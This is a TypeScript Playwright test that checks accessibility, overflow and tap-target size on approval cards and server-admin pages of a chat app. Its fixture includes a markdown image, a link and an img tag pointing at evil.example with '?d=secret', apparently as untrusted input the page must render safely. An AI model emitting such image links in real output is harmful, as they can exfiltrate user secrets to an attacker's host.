import { join } from 'node:path';
import axe from 'axe-core';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { hasChromium, useBrowser } from '../../../support/browser.ts';
import { picturesFolder } from '../../admin/pictures.ts';
import { ADA, fillServers, startLooksStage, TEAM, THREAD } from './looks-stage.ts';

const LOOKS = [
  ['wide', { viewport: { width: 1_280, height: 900 } }],
  ['wide-dark', { viewport: { width: 1_280, height: 900 }, colorScheme: 'dark' }],
  ['narrow', { viewport: { width: 360, height: 780 }, hasTouch: true, isMobile: true }],
  ['narrow-dark', { viewport: { width: 360, height: 780 }, hasTouch: true, isMobile: true, colorScheme: 'dark' }],
] as const;

/** What a thumb needs, in pixels. */
const THUMB_PX = 44;

const ARGUMENTS = {
  service: 'shop',
  version: '1.2.3',
  note: 'Ships the fix.\n  ![x](https://evil.example/p.png?d=secret) [good](https://evil.example) <img src="https://evil.example/q.png">',
  address: `https://evil.example/${'very-long-'.repeat(12)}`,
};

describe.skipIf(!hasChromium)('requests for consent and servers on pages', () => {
  const browser = useBrowser();

  it.each(LOOKS)('have nothing to complain about, fit the screen and a thumb: %s', async (look, options) => {
    const stage = await startLooksStage();
    const { book, address, post } = stage;
    fillServers(stage);
    const folder = picturesFolder('trust');
    const complaints: string[] = [];
    const check = async (page: Page, name: string): Promise<void> => {
      await page.waitForTimeout(250);
      complaints.push(...(await complaintsAbout(page, name, look.startsWith('narrow'))));
      await page.screenshot({ path: join(folder, `${look}-${name}.png`), fullPage: true });
    };
    const first = book.ask({ thread: THREAD, team: TEAM, by: ADA, label: 'Deploy a service', arguments: ARGUMENTS });
    await post(first);
    book.ask({ thread: THREAD, team: TEAM, by: ADA, arguments: { script: 'line of it\n'.repeat(300) } });
    book.grant(THREAD, ADA);

    const chat = await browser.open(`${address}/?as=root&channel=general&thread=000000000001`, options);
    await chat.getByRole('button', { name: 'Approve', exact: true }).waitFor();
    await check(chat, 'card');
    await chat.getByRole('button', { name: 'Deny…' }).click();
    await check(chat, 'denial');
    await chat.getByRole('button', { name: 'Cancel' }).click();

    const mine = await browser.open(`${address}/?as=ada&approvals=1`, options);
    await mine.getByRole('button', { name: 'Approve', exact: true }).first().waitFor();
    await check(mine, 'pending');

    const admin = await browser.open(
      `${address}/playground/admin?as=root&team=web:playground&section=approvals`,
      options,
    );
    await admin.getByRole('button', { name: 'Approve', exact: true }).first().waitFor();
    await check(admin, 'admin-approvals');
    await chat.getByRole('button', { name: 'Approve', exact: true }).click();
    await chat.locator('.approval-result').waitFor();
    await check(chat, 'decided');

    const servers = await browser.open(
      `${address}/playground/admin?as=root&team=web:playground&section=servers`,
      options,
    );
    await servers.getByRole('button', { name: 'Add a server' }).waitFor();
    for (const summary of await servers.locator('summary').all()) if (await summary.isVisible()) await summary.click();
    await check(servers, 'servers');
    await servers.getByRole('button', { name: 'Sign in…: calendar' }).click();
    await servers.getByRole('link', { name: 'Open the sign-in for calendar' }).waitFor();
    await servers.getByRole('button', { name: 'New secret…: tickets' }).click();
    await servers.getByRole('button', { name: 'Remove…: wiki' }).click();
    await check(servers, 'server-actions');
    await servers.getByRole('button', { name: 'Add a server' }).click();
    await servers.getByLabel('Name', { exact: true }).fill('not a name');
    await servers.getByLabel('Address').fill('ftp://x');
    await servers.getByLabel('How the bot signs in').selectOption('bearer');
    await servers.getByRole('button', { name: 'Add', exact: true }).click();
    await servers.getByText('Must begin with https://.').waitFor();
    await check(servers, 'server-add');

    const accounts = await browser.open(`${address}/playground/admin?as=ada&section=mine`, options);
    await accounts.getByText('My accounts at other programs').waitFor();
    await check(accounts, 'accounts');
    expect(complaints).toEqual([]);
  });
});

/** What axe finds, by how much the page is wider than the screen, and what is too small for a thumb. */
async function complaintsAbout(page: Page, where: string, isNarrow: boolean): Promise<readonly string[]> {
  await page.evaluate(axe.source);
  const { violations } = await page.evaluate<axe.AxeResults>("axe.run('html')");
  const overflow = await page.evaluate<number>('document.scrollingElement.scrollWidth - window.innerWidth');
  const buttons = page.locator('.approval .button, .grant-list .button, .server-actions .button, .server-list summary');
  const small = isNarrow
    ? await buttons.evaluateAll(
        (elements, least) =>
          elements
            .filter((element) => element.getBoundingClientRect().height > 0)
            .filter((element) => element.getBoundingClientRect().height < least)
            .map((element) => element.textContent ?? ''),
        THUMB_PX,
      )
    : [];
  return [
    ...violations.flatMap(({ id, nodes }) =>
      nodes.map(({ html, failureSummary = '' }) => `${where}: ${id}: ${html}\n${failureSummary}`),
    ),
    ...(overflow > 0 ? [`${where}: ${overflow} pixels too wide`] : []),
    ...small.map((text) => `${where}: too small for a thumb: ${text}`),
  ];
}
